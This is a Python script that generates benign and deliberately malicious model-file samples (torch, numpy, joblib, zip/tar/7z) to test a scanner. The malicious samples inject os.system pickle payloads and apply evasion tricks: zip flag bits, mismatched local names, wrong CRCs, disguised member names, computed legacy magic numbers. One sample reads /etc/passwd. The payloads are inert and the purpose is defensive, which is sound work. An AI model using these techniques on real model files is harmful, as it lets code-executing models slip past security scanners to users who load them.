#!/usr/bin/python3
"""Regenerate the container analyzers' test samples.

Run with Debian's interpreter, which has python3-torch, python3-numpy,
python3-sklearn, python3-joblib and python3-lz4 installed, and with the zstd
and p7zip-full command-line tools on PATH:

    /usr/bin/python3 testdata/containers/make_samples.py

benign/ holds containers written by the real libraries (torch.save in the zip
and legacy formats, torch.jit.save, numpy .npy/.npz, joblib with every
compression, tar/zip/gzip/7z wrappers); a correct scanner finds nothing at
medium or above in them. malicious/ holds one container technique of the
bypass catalogue per file (see samples.tsv). Malicious pickles are assembled
from opcodes or produced by pickle.dumps of an object whose __reduce__ names
os.system; nothing in malicious/ is ever loaded or executed here. The files
are checked with the standard library only: zipfile and a small
central-directory parser, tarfile, the decompressors and pickletools, which
never imports or calls anything. Payload commands are inert ("echo pwned").

Output is deterministic: fixed seeds, a fixed PYTHONHASHSEED (the script
re-executes itself to set it), fixed zip/tar/gzip timestamps and storage keys.
"""

import bz2
import collections
import gzip
import io
import lzma
import os
import pickle
import pickletools
import re
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import warnings
import zipfile
import zlib

if os.environ.get("PYTHONHASHSEED") != "0":
    # Set iteration order and some library pickles depend on string hashing.
    env = dict(os.environ, PYTHONHASHSEED="0")
    os.execve(sys.executable, [sys.executable] + sys.argv, env)

HERE = os.path.dirname(os.path.abspath(__file__))
CMD = "echo pwned"
DEBIAN_PACKAGES = ["python3.11", "python3-torch", "python3-numpy", "python3-sklearn",
                   "python3-scipy", "python3-joblib", "python3-lz4", "zstd", "p7zip-full"]
EXPECT = ("clean", "high", "critical", "inconclusive")
FIXED_TIME = (2024, 1, 1, 0, 0, 0)
TAR_MTIME = 1704067200  # 2024-01-01T00:00:00Z
MAX_SAMPLE = 200 * 1024  # every sample but the deliberate bombs stays below this

SAMPLES = []  # dicts: path, data, expect, cat, note, marker


def add(relpath, data, expect, cat, note, marker=None, big=False):
    """Record one sample. marker is what the structural check must find
    inside the unwrapped file: None for benign files (no dangerous global may
    appear), "payload" for an os/posix.system or eval call in some pickle,
    bytes for a literal that must appear in some unwrapped member, or "skip"
    when the sample's point is the container itself (bombs, lying sizes).
    big exempts a resource-attack sample from the size cap."""
    assert expect in EXPECT, expect
    assert not any(s["path"] == relpath for s in SAMPLES), relpath
    assert "\t" not in note and "\n" not in note, relpath
    if relpath.startswith("benign/"):
        assert expect == "clean" and marker is None, relpath
    else:
        assert expect != "clean", relpath
        marker = marker or "payload"
    assert big or len(data) < MAX_SAMPLE, (relpath, len(data))
    SAMPLES.append(dict(path=relpath, data=data, expect=expect, cat=cat, note=note,
                        marker=marker))


# ---------------------------------------------------------------- assembler
# A few opcodes are enough here: payloads are spliced into real pickles.
P = pickle


def glob(mod, name):
    return P.GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n"


def ustr(s):
    b = s.encode("utf-8")
    return P.BINUNICODE + struct.pack("<I", len(b)) + b


def call1(fn, *args):
    """fn(*args) with string args, protocol-2 opcodes (fn: opcodes pushing a callable)."""
    return fn + P.MARK + b"".join(ustr(a) for a in args) + P.TUPLE + P.REDUCE


def os_system():
    return call1(glob("os", "system"), CMD)


def pk2(body):
    return P.PROTO + b"\x02" + body + P.STOP


def inject(pkl):
    """Run os.system(CMD) first, discard its result, then the original
    pickle: the fickling-style injection that keeps the file loadable."""
    if pkl[:1] == P.PROTO:
        return pkl[:2] + os_system() + P.POP + pkl[2:]
    return os_system() + P.POP + pkl


def evil_pickle(n=2):
    """A bare os.system(CMD) pickle at protocol n (0 and 1 have no PROTO)."""
    if n >= 2:
        return pk2(os_system())
    text = b"(V" + CMD.encode() + b"\n" + b"t"
    return glob("os", "system") + text + P.REDUCE + P.STOP


class Reduce:
    """Pickles as fn(*args) without ever calling fn."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def stream_bounds(data, count):
    """Offsets [start, end) of the first count concatenated pickles."""
    out, f = [], io.BytesIO(data)
    for _ in range(count):
        start = f.tell()
        for _ in pickletools.genops(f):
            pass
        out.append((start, f.tell()))
    return out


# --------------------------------------------------------------- zip writer
class ZEntry:
    """One zip record. The defaults reproduce PyTorch's writer (miniz through
    caffe2's PyTorchStreamWriter): flags 0x0808, zero DOS time, sizes in a
    data descriptor, data 64-byte aligned by an "FB" extra field. The
    override fields exist to build the differentials."""

    def __init__(self, name, data=None, method=0, raw=None, crc=None, usize=None,
                 version=None, flags=0x0808, lname=None, crc_override=None,
                 ext_attr=0, made_by=0, torch=True, cd_extra=b"", local_extra=None):
        self.name, self.method, self.flags = name, method, flags
        if raw is None:
            raw = data if method == 0 else deflate(data)
            crc, usize = zlib.crc32(data), len(data)
        self.raw, self.crc, self.usize = raw, crc, usize
        self.version = version if version is not None else (20 if method == 8 else 0)
        self.lname, self.crc_override = lname, crc_override
        self.ext_attr, self.made_by, self.torch = ext_attr, made_by, torch
        self.cd_extra, self.local_extra = cd_extra, local_extra


def deflate(data, level=9):
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def dos_time():
    y, mo, d, h, mi, s = FIXED_TIME
    return (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 5) | d


def build_zip(entries, prefix=b"", cd_order=None, torch_eocd=True, extra_cd=()):
    """Serialise entries. prefix is written before the first local header and
    counted in the offsets (as a tool that prepends bytes and fixes offsets
    would). cd_order lists entry indexes for the central directory (default:
    every entry once); extra_cd adds central records (name, entry index)
    that point at an existing local header."""
    out = bytearray(prefix)
    offsets = []
    for e in entries:
        off = len(out)
        offsets.append(off)
        name = e.name.encode()
        lname = (e.lname or e.name).encode()
        crc = e.crc if e.crc_override is None else e.crc_override
        if e.torch:
            start = off + 30 + len(lname) + 4
            pad = (-start) % 64
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            if e.local_extra is not None:
                extra = e.local_extra
            out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", e.version, e.flags, e.method,
                               0, 0, 0, 0, 0, len(lname), len(extra))
            out += lname + extra + e.raw
            out += struct.pack("<4sIII", b"PK\x07\x08", crc, len(e.raw), e.usize)
        else:
            t, d = dos_time()
            extra = e.local_extra or b""
            out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", e.version or 20, e.flags,
                               e.method, t, d, crc, len(e.raw), e.usize, len(lname),
                               len(extra))
            out += lname + extra + e.raw
        del name
    cd_start = len(out)
    records = [(entries[i].name, i) for i in (cd_order if cd_order is not None
                                              else range(len(entries)))]
    records += list(extra_cd)
    for name, i in records:
        e = entries[i]
        crc = e.crc if e.crc_override is None else e.crc_override
        t, d = (0, 0) if e.torch else dos_time()
        nb = name.encode()
        vmade = e.made_by if e.torch else (e.made_by or 20)
        out += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", vmade,
                           e.version if e.torch else (e.version or 20), e.flags, e.method,
                           t, d, crc, len(e.raw), e.usize, len(nb), len(e.cd_extra), 0, 0, 0,
                           e.ext_attr, offsets[i])
        out += nb + e.cd_extra
    cd_size = len(out) - cd_start
    n = len(records)
    if torch_eocd:
        z64 = len(out)
        out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 0x031E, 45, 0, 0, n, n,
                           cd_size, cd_start)
        out += struct.pack("<4sIQI", b"PK\x06\x07", 0, z64, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, cd_size, cd_start, 0)
    return bytes(out)


def parse_cd(data):
    """The central directory of data (last end record), with each record's
    local name, never through zipfile so that broken entries stay visible.
    Offsets are shifted when bytes were prepended without fixing them."""
    eocd = data.rfind(b"PK\x05\x06")
    if eocd < 0:
        raise ValueError("no end of central directory")
    n, cd_size, cd_off = struct.unpack("<HII", data[eocd + 10:eocd + 20])
    loc = data.rfind(b"PK\x06\x07", 0, eocd)
    if loc >= 0 and loc + 20 == eocd:
        z64 = struct.unpack("<Q", data[loc + 8:loc + 16])[0]
        if data[loc - 56:loc - 52] == b"PK\x06\x06":
            z64 = loc - 56  # where it is, not where the locator says (prefixed data)
        n, cd_size, cd_off = struct.unpack("<QQQ", data[z64 + 32:z64 + 56])
        end = z64
    else:
        end = eocd
    shift = end - cd_size - cd_off
    out, p = [], cd_off + shift
    for _ in range(n):
        f = struct.unpack("<4sHHHHHHIIIHHHHHII", data[p:p + 46])
        if f[0] != b"PK\x01\x02":
            raise ValueError(f"bad central record at {p}")
        name = data[p + 46:p + 46 + f[10]]
        cd_extra = data[p + 46 + f[10]:p + 46 + f[10] + f[11]]
        csize, usize, off = f[8], f[9], f[16]
        q = 0
        while q + 4 <= len(cd_extra):
            tag, ln = struct.unpack("<HH", cd_extra[q:q + 4])
            if tag == 1:  # ZIP64: the fields that were 0xFFFFFFFF, in order
                vals = list(struct.unpack(f"<{ln // 8}Q", cd_extra[q + 4:q + 4 + ln]))
                if usize == 0xFFFFFFFF:
                    usize = vals.pop(0)
                if csize == 0xFFFFFFFF:
                    csize = vals.pop(0)
                if off == 0xFFFFFFFF:
                    off = vals.pop(0)
            q += 4 + ln
        lo = off + shift
        lf = struct.unpack("<4sHHHHHIIIHH", data[lo:lo + 30])
        lname = data[lo + 30:lo + 30 + lf[9]]
        dstart = lo + 30 + lf[9] + lf[10]
        out.append(dict(name=name.decode("utf-8", "replace"),
                        lname=lname.decode("utf-8", "replace"), made_by=f[1],
                        version=f[2], flags=f[3], method=f[4], crc=f[7], csize=csize,
                        usize=usize, ext_attr=f[15], offset=lo, lflags=lf[2],
                        lversion=lf[1], lextra=data[lo + 30 + lf[9]:dstart],
                        raw=data[dstart:dstart + csize], cd_extra=cd_extra))
        p += 46 + f[10] + f[11] + f[12]
    return out


def read_entries(data):
    """A real zip's records as ZEntry values (raw bytes preserved)."""
    return [ZEntry(r["name"], raw=r["raw"], crc=r["crc"], usize=r["usize"],
                   method=r["method"], version=r["version"], flags=r["flags"],
                   made_by=r["made_by"]) for r in parse_cd(data)]


def entry_data(r, cap=64 << 20):
    """Uncompressed bytes of a parse_cd record, ignoring CRC and flag bits as
    PyTorch's reader does; None when it would exceed cap."""
    if r["method"] == 0:
        return r["raw"]
    if r["method"] == 8:
        d = zlib.decompressobj(-15)
        out = d.decompress(r["raw"], cap)
        return None if d.unconsumed_tail else out
    raise ValueError(f"method {r['method']}")


def plain_zip(files, compress=zipfile.ZIP_DEFLATED):
    """A zip written by zipfile with fixed timestamps; files: [(name, bytes)]."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
            info.compress_type = compress
            info.external_attr = 0o100644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def fix_zip_times(data):
    """Overwrite every local and central DOS time/date with FIXED_TIME (numpy's
    savez stamps the current time); nothing else changes."""
    b = bytearray(data)
    t, d = dos_time()
    for r in parse_cd(data):
        struct.pack_into("<HH", b, r["offset"] + 10, t, d)
    eocd = data.rfind(b"PK\x05\x06")
    n, cd_size, cd_off = struct.unpack("<HII", data[eocd + 10:eocd + 20])
    if n == 0xFFFF or cd_off == 0xFFFFFFFF:
        z64 = struct.unpack("<Q", data[eocd - 12:eocd - 4])[0]
        n, cd_size, cd_off = struct.unpack("<QQQ", data[z64 + 32:z64 + 56])
    p = cd_off
    for _ in range(n):
        struct.pack_into("<HH", b, p + 12, t, d)
        nl, xl, cl = struct.unpack("<HHH", data[p + 28:p + 34])
        p += 46 + nl + xl + cl
    return bytes(b)


# ------------------------------------------------------------ other wrappers
def gz(data, name=None):
    """gzip with mtime 0; name sets the FNAME field as the gzip tool would."""
    buf = io.BytesIO()
    with gzip.GzipFile(filename=name or "", mode="wb", fileobj=buf, mtime=0,
                       compresslevel=9) as f:
        f.write(data)
    return buf.getvalue()


def lz4f(data):
    import lz4.frame
    return lz4.frame.compress(data)


def zstd(data):
    return subprocess.run(["zstd", "-19", "-q", "-c", "--no-progress"], input=data,
                          capture_output=True, check=True).stdout


def sevenzip(files):
    """A .7z archive made by the 7-Zip command-line tool, single-threaded
    LZMA2, without timestamps; files: [(name, bytes)]."""
    with tempfile.TemporaryDirectory() as d:
        src = os.path.join(d, "src")
        for name, data in files:
            path = os.path.join(src, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as f:
                f.write(data)
            os.chmod(path, 0o644)
            os.utime(path, (TAR_MTIME, TAR_MTIME))
        out = os.path.join(d, "out.7z")
        subprocess.run(["7z", "a", "-t7z", "-m0=lzma2", "-mx=9", "-mmt=1", "-mtm=off",
                        "-mtc=off", "-mta=off", "-mtr=off", "-bd", "-bso0", "-bsp0", out]
                       + [name for name, _ in files], cwd=src, check=True)
        with open(out, "rb") as f:
            return f.read()


def tar_bytes(members, compress=None):
    """members: (name, data, kind, extra) with kind "file", "dir", "sym",
    "hard", "chr" or "pax" (a regular file whose PAX path overrides name)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data, kind, extra in members:
            ti = tarfile.TarInfo(name)
            ti.mtime, ti.uid, ti.gid, ti.uname, ti.gname = TAR_MTIME, 0, 0, "", ""
            ti.mode = 0o644
            payload = None
            if kind == "file":
                ti.size, payload = len(data), io.BytesIO(data)
            elif kind == "dir":
                ti.type, ti.mode = tarfile.DIRTYPE, 0o755
            elif kind == "sym":
                ti.type, ti.linkname, ti.mode = tarfile.SYMTYPE, extra, 0o777
            elif kind == "hard":
                ti.type, ti.linkname = tarfile.LNKTYPE, extra
            elif kind == "chr":
                ti.type, ti.devmajor, ti.devminor = tarfile.CHRTYPE, 1, 3
            elif kind == "pax":
                ti.pax_headers = {"path": extra}
                ti.size, payload = len(data), io.BytesIO(data)
            t.addfile(ti, payload)
    raw = buf.getvalue()
    return gz(raw) if compress == "gz" else raw


# -------------------------------------------------------------------- torch
def storage_ids(pkl):
    """(storage type, key, numel) of each ('storage', type, key, location,
    numel, ...) persistent id in a torch data pickle, in first-use order;
    memo references are followed so repeated keys resolve."""
    seq, memo = [], {}
    for op, arg, _ in pickletools.genops(pkl):
        if op.name in ("BINPUT", "LONG_BINPUT", "PUT"):
            memo[arg] = seq[-1]
        elif op.name == "MEMOIZE":
            memo[len(memo)] = seq[-1]
        elif op.name in ("BINGET", "LONG_BINGET", "GET"):
            seq.append(memo.get(arg, (None, None)))
        else:
            seq.append((op.name, arg))
    out = []
    for i, (_, arg) in enumerate(seq[:-4]):
        if arg == "storage" and seq[i + 1][0] == "GLOBAL":
            out.append((seq[i + 1][1].split()[-1], seq[i + 2][1], seq[i + 4][1]))
    return out


def stable_storage_keys(b):
    """Rename the storage keys of a legacy torch.save stream to "0", "1", ...
    in first-use order, and write the raw storages in that order. Legacy
    torch.save keys storages by C pointer and writes them sorted by key, so
    both the names and the order change every run. The stream is five
    protocol-2 pickles (magic, protocol, sys_info, data, key list), then per
    key an 8-byte element count and the raw elements."""
    import torch
    bounds = stream_bounds(b, 5)
    (s4, e4), (s5, e5) = bounds[3], bounds[4]
    data_pkl = b[s4:e4]
    keys = [arg for op, arg, _ in pickletools.genops(b[s5:e5]) if op.name == "BINUNICODE"]
    kinds = {}
    for kind, key, _ in storage_ids(data_pkl):
        kinds.setdefault(key, kind)
    raw, pos, blobs = b[e5:], 0, {}
    for key in keys:
        n = int.from_bytes(raw[pos:pos + 8], "little")
        size = 8 + n * getattr(torch, kinds[key])().element_size()
        blobs[key], pos = raw[pos:pos + size], pos + size
    assert pos == len(raw), (pos, len(raw))
    order = list(kinds)
    assert sorted(order) == sorted(keys)
    for i, key in enumerate(order):
        old = P.BINUNICODE + struct.pack("<I", len(key)) + key.encode()
        new = P.BINUNICODE + struct.pack("<I", len(str(i))) + str(i).encode()
        assert data_pkl.count(old) == 1, key
        data_pkl = data_pkl.replace(old, new)
    key_list = pickle.dumps([str(i) for i in range(len(order))], protocol=2)
    assert pickle.dumps(keys, protocol=2) == b[s5:e5]  # same writer, same form
    return b[:s4] + data_pkl + key_list + b"".join(blobs[k] for k in order)


def torch_zip(obj, name=None):
    """torch.save in the zip format; name (a file name) sets the archive
    prefix the way saving to that path would."""
    import torch
    if name is None:
        buf = io.BytesIO()
        torch.save(obj, buf)
        return buf.getvalue()
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, name)
        torch.save(obj, path)
        with open(path, "rb") as f:
            return f.read()


def torch_legacy(obj):
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return stable_storage_keys(buf.getvalue())


def replace_member(data, suffix, fn):
    """Rebuild a torch zip with fn(bytes) applied to the member ending in suffix."""
    entries = read_entries(data)
    out = []
    for e in entries:
        if e.name.endswith(suffix):
            r = next(r for r in parse_cd(data) if r["name"] == e.name)
            new = fn(entry_data(r))
            e = ZEntry(e.name, data=new, method=e.method)
        out.append(e)
    return build_zip(out)


def tiny_models():
    import torch
    torch.manual_seed(0)
    seq = torch.nn.Sequential(
        torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.ReLU(),
        torch.nn.Flatten(), torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    opt = torch.optim.Adam(seq.parameters(), lr=1e-3)
    seq(torch.randn(3, 1, 4, 4)).sum().backward()
    opt.step()
    seq.eval()
    bf16 = torch.randn(4, 4).to(torch.bfloat16)
    return seq, opt, bf16


# -------------------------------------------------------------- TorchScript
def scripted_modules():
    """TorchScript modules; defined at module level so inspect finds the source."""
    import torch

    class Tiny(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(3, 2)

        def forward(self, x):
            return torch.relu(self.lin(x))

    class Saver(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(3, 2)

        def forward(self, x):
            y = self.lin(x)
            torch.save(y, "/tmp/pwned.pt")
            return y

    class Reader(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(3, 2)

        def forward(self, x):
            leak = torch.from_file("/etc/passwd", False, 16, dtype=torch.uint8)
            return self.lin(x) + leak.sum().float()

    out = {}
    for key, cls in (("tiny", Tiny), ("saver", Saver), ("reader", Reader)):
        torch.manual_seed(0)
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(cls()), buf)
        data = buf.getvalue()
        assert build_zip(read_entries(data)) == data, key
        out[key] = replace_member(data, ".debug_pkl", relative_source_path)
    return out


def relative_source_path(debug_pkl):
    """*.debug_pkl records the absolute path of this script; keep only its
    name so that the output does not depend on where the checkout lives."""
    path = os.path.abspath(__file__).encode()
    old = P.BINUNICODE + struct.pack("<I", len(path)) + path
    name = os.path.basename(path)
    return debug_pkl.replace(old, P.BINUNICODE + struct.pack("<I", len(name)) + name)


# ------------------------------------------------------------------- benign
def make_benign(ctx):
    import numpy as np
    from sklearn.datasets import make_classification
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    B = "benign/"
    seq, opt, bf16 = tiny_models()
    objs = {
        "state_dict": (seq.state_dict(), "nn.Sequential(Conv2d, BatchNorm2d, ReLU, Flatten, "
                       "Linear, ReLU, Linear) state_dict, random weights"),
        "full_module": (seq, "a whole nn.Sequential module (torch.nn.modules.* classes)"),
        "optimizer": (opt.state_dict(), "Adam optimizer state_dict after one step"),
        "bfloat16": ({"w": bf16}, "a bfloat16 tensor (torch.BFloat16Storage)"),
    }
    for key, (obj, note) in objs.items():
        data = torch_zip(obj)
        add(f"{B}torch_zip_{key}.pt", data, "clean", "-", f"torch.save zip: {note}")
        # The writer below must reproduce torch's bytes exactly, or the
        # malicious variants would differ from real files in more than the trick.
        assert build_zip(read_entries(data)) == data, key
        add(f"{B}torch_legacy_{key}.pt", torch_legacy(obj), "clean", "-",
            f"torch.save legacy (_use_new_zipfile_serialization=False): {note}"
            + (" (the stream embeds each module class's source)" if key == "full_module"
               else ""))
    ctx["sd_zip"] = torch_zip(seq.state_dict())
    ctx["sd_legacy"] = torch_legacy(seq.state_dict())
    add(f"{B}tiny_classifier.bin", torch_zip(seq.state_dict(), "tiny_classifier.bin"),
        "clean", "-", "torch.save zip written to tiny_classifier.bin: archive prefix "
        "'tiny_classifier/' instead of 'archive/'")

    ts = scripted_modules()
    ctx["ts"] = ts
    add(f"{B}torchscript_tiny.pt", ts["tiny"], "clean", "-",
        "torch.jit.save of a scripted Linear+relu module (code/, *.debug_pkl, constants.pkl)")

    rng = np.random.default_rng(0)
    arrays = {
        "float32": rng.standard_normal((8, 4)).astype(np.float32),
        "int64": np.arange(24, dtype=np.int64).reshape(2, 3, 4),
        "structured": np.array([(1, 2.5, b"ab"), (2, -1.0, b"cd")],
                               dtype=[("id", "<i4"), ("x", "<f8"), ("tag", "S2")]),
        "fortran": np.asfortranarray(rng.integers(0, 100, (3, 5), dtype=np.int16)),
        "object": np.array([1, "two", 3, "four", None], dtype=object),
    }
    notes = {"float32": "float32 8x4", "int64": "int64 2x3x4",
             "structured": "structured dtype (i4, f8, S2)",
             "fortran": "Fortran-ordered int16 3x5",
             "object": "object dtype of ints/strings/None: a protocol-3 pickle of "
                       "numpy._reconstruct follows the header"}
    for key, arr in arrays.items():
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        add(f"{B}npy_{key}.npy", buf.getvalue(), "clean", "-", f"np.save: {notes[key]}")
    buf = io.BytesIO()
    np.lib.format.write_array(buf, arrays["float32"], version=(2, 0))
    add(f"{B}npy_v2_header.npy", buf.getvalue(), "clean", "-",
        "np.lib.format.write_array version (2, 0): u32 header length")
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "can only be read by NumPy >= 1.17"
        np.save(buf, np.zeros(3, dtype=[("\u00e9t\u00e9", "<f4"), ("\u4e16", "<i2")]))
    assert buf.getvalue()[6] == 3
    add(f"{B}npy_v3_utf8_fields.npy", buf.getvalue(), "clean", "-",
        "np.save of a structured dtype with non-latin-1 field names: header version 3.0 (UTF-8)")
    for fn, key in ((np.savez, "savez"), (np.savez_compressed, "savez_compressed")):
        buf = io.BytesIO()
        fn(buf, weights=arrays["float32"], ids=arrays["int64"], table=arrays["structured"])
        add(f"{B}npz_{key}.npz", fix_zip_times(buf.getvalue()), "clean", "-",
            f"np.{key} of float32, int64 and structured arrays (ZIP64 local extra)")
    buf = io.BytesIO()
    np.savez(buf, labels=arrays["object"], weights=arrays["float32"])
    add(f"{B}npz_object_member.npz", fix_zip_times(buf.getvalue()), "clean", "-",
        "np.savez with an object-dtype member (benign pickle inside a .npy inside the zip)")

    X, y = make_classification(n_samples=40, n_features=4, n_informative=2,
                               n_redundant=0, random_state=0)
    pipe = Pipeline([("scale", StandardScaler()),
                     ("clf", LogisticRegression(random_state=0))]).fit(X, y)
    ctx["pipe"] = pipe
    for comp in (None, "zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        data = joblib_dump(pipe, comp)
        add(f"{B}joblib_pipeline_{comp or 'plain'}.joblib", data, "clean", "-",
            "joblib.dump of sklearn Pipeline(StandardScaler, LogisticRegression)"
            + (f", compress=('{comp}', 3)" if comp else ": NumpyArrayWrapper arrays inline"))
    mixed = {"f64": rng.standard_normal(6), "f16": np.ones(5, dtype=np.float16),
             "u8": np.arange(10, dtype=np.uint8), "bool": np.array([True, False, True]),
             "c64": np.array([1 + 2j, 3 - 4j], dtype=np.complex64),
             "structured": arrays["structured"], "object": arrays["object"],
             "empty": np.zeros((0, 3), dtype=np.int32), "scalar": np.int64(7)}
    add(f"{B}joblib_arrays_dtypes.joblib", joblib_dump(mixed, None), "clean", "-",
        "joblib.dump of arrays float64/float16/uint8/bool/complex64/structured/empty and "
        "an object array (nested protocol-2 pickle after its wrapper)")
    add(f"{B}joblib_arrays_dtypes_gzip.joblib", joblib_dump(mixed, "gzip"), "clean", "-",
        "the same arrays with compress='gzip'")

    config = b'{"model_type": "tiny", "hidden": 4, "labels": ["a", "b"]}\n'
    folder = [("tiny-model/config.json", config),
              ("tiny-model/pytorch_model.bin", ctx["sd_zip"]),
              ("tiny-model/README.md", b"# tiny-model\n\nRandom weights for tests.\n")]
    add(f"{B}model_folder.tar.gz",
        tar_bytes([("tiny-model", None, "dir", None)]
                  + [(n, d, "file", None) for n, d in folder], "gz"),
        "clean", "-", "tar.gz (PAX) of a model folder: config.json, pytorch_model.bin "
        "(torch zip), README.md")
    add(f"{B}model_folder.zip", plain_zip(folder), "clean", "-",
        "zip (deflate) of the same model folder, no safetensors")
    plain = pickle.dumps({"vocab": ["a", "b", "c"], "scale": 0.5,
                          "od": collections.OrderedDict(k=1)}, protocol=4)
    add(f"{B}pickle.pkl.gz", gz(plain, "pickle.pkl"), "clean", "-",
        "gzip (FNAME set) of a plain-data protocol-4 pickle")
    add(f"{B}pickle.pkl.bz2", bz2.compress(plain), "clean", "-", "bz2 of the same pickle")
    add(f"{B}pickle.pkl.xz", lzma.compress(plain), "clean", "-", "xz of the same pickle")
    add(f"{B}pickle.pkl.zst", zstd(plain), "clean", "-", "zstd frame of the same pickle")
    add(f"{B}pickle.pkl.lz4", lz4f(plain), "clean", "-", "lz4 frame of the same pickle")
    add(f"{B}model.7z", sevenzip([("model.pt", ctx["sd_zip"]), ("config.json", config)]),
        "clean", "-", "7z (LZMA2) of a torch zip state_dict and a config.json")


def joblib_dump(obj, comp):
    """joblib.dump to a file; gzip mtime is 0 in joblib's writer already."""
    import joblib
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "model.joblib")
        joblib.dump(obj, path, compress=(comp, 3) if comp else 0)
        with open(path, "rb") as f:
            return f.read()


# ---------------------------------------------------------------- malicious
def make_malicious(ctx):
    import numpy as np

    M = "malicious/"
    sd_zip, sd_legacy = ctx["sd_zip"], ctx["sd_legacy"]
    evil_zip = replace_member(sd_zip, "/data.pkl", inject)
    ctx["evil_zip"] = evil_zip
    add(f"{M}torch_zip_os_system.pt", evil_zip, "critical", "-",
        "real torch.save zip state_dict with os.system(cmd) injected at the start of "
        "archive/data.pkl (basic case)")
    add(f"{M}torch_zip_reduce_member.pt",
        torch_zip({"state_dict": ctx["pipe"].named_steps["clf"].coef_.tolist(),
                   "hook": Reduce(os.system, (CMD,))}), "critical", "-",
        "torch.save of a dict holding a __reduce__ object: GLOBAL posix.system in data.pkl "
        "as CPython writes it")

    # Row 9: 7z wrappers.
    add(f"{M}7z_torch_zip.7z", sevenzip([("pytorch_model.bin", evil_zip)]), "critical", "9",
        "7z (LZMA2) holding a malicious torch zip named pytorch_model.bin (nullifAI)")
    add(f"{M}7z_pickle.7z", sevenzip([("model.pkl", evil_pickle(2))]),
        "critical", "9", "7z holding a bare os.system pickle")

    # Row 10: general-purpose flag bits on the payload record.
    entries_src = read_entries(evil_zip)
    for bit, what in ((0x1, "encrypted"), (0x20, "compressed patched data"),
                      (0x40, "strong encryption")):
        es = read_entries(evil_zip)
        for e in es:
            if e.name.endswith("/data.pkl"):
                e.flags |= bit
        add(f"{M}zip_flag_0x{bit:02x}.pt", build_zip(es), "critical", "10",
            f"torch zip whose data.pkl record has flag bit 0x{bit:x} ({what}) set in local "
            f"and central headers; the data is plain, torch/miniz ignores the bit, zipfile "
            f"refuses")
    del entries_src

    # Row 11: local name differs from the central name.
    es = read_entries(evil_zip)
    for e in es:
        if e.name.endswith("/data.pkl"):
            e.lname = e.name.replace("data.pkl", "datap.kl")
    add(f"{M}zip_local_name_mismatch.pt", build_zip(es), "critical", "11",
        "torch zip: central directory says archive/data.pkl, local header says "
        "archive/datap.kl (CVE-2025-1944 form)")

    # Rows 12, 13: pickles under non-pickle member names.
    for n, cat in ((2, "12"), (0, "13")):
        add(f"{M}zip_data_txt_p{n}.zip", plain_zip([("data.txt", evil_pickle(n)),
                                                    ("README.md", b"notes\n")]),
            "critical", cat, f"zip member data.txt holding a protocol-{n} os.system pickle"
            + (" (no \\x80 magic: starts with 'c')" if n == 0 else ""))

    # Row 14: CRC mismatch.
    es = read_entries(evil_zip)
    for e in es:
        if e.name.endswith("/data.pkl"):
            e.crc_override = e.crc ^ 0xDEADBEEF
    add(f"{M}zip_crc_mismatch.pt", build_zip(es), "critical", "14",
        "torch zip whose data.pkl CRC-32 (descriptor and central) is wrong; torch ignores CRC")

    # Row 15: a raw pickle with a PyTorch extension.
    raw_evil = pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)
    add(f"{M}raw_pickle.pt", raw_evil, "critical", "15",
        "bare protocol-2 pickle (posix.system via __reduce__) named .pt: not a zip, not legacy")
    add(f"{M}raw_pickle_as.bin", raw_evil, "critical", "15", "the same pickle named .bin")

    # Rows 17, 18: legacy stacked pickles.
    b = stream_bounds(sd_legacy, 5)
    parts = [sd_legacy[s:e] for s, e in b] + [sd_legacy[b[4][1]:]]
    magic_hex = "0x1950a86a20f9469cfc6c"
    eval_magic = pk2(call1(glob("builtins", "eval"), magic_hex))
    assert parts[0] == pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    add(f"{M}legacy_eval_magic_payload_p5.pt",
        eval_magic + b"".join(parts[1:4]) + inject(parts[4]) + parts[5], "critical", "17",
        "legacy torch: magic pickle is builtins.eval('0x1950...') (no literal magic), "
        "os.system injected into the storage-key pickle #5")
    int_magic = P.PROTO + b"\x02" + glob("builtins", "int") + P.MARK + ustr(magic_hex[2:]) \
        + P.BININT1 + b"\x10" + P.TUPLE + P.REDUCE + P.STOP
    add(f"{M}legacy_int_magic_payload_p5.pt",
        int_magic + b"".join(parts[1:4]) + inject(parts[4]) + parts[5], "critical", "17",
        "legacy torch: magic computed by builtins.int('1950...', 16) so a literal check "
        "fails; the only payload is os.system in the storage-key pickle #5")
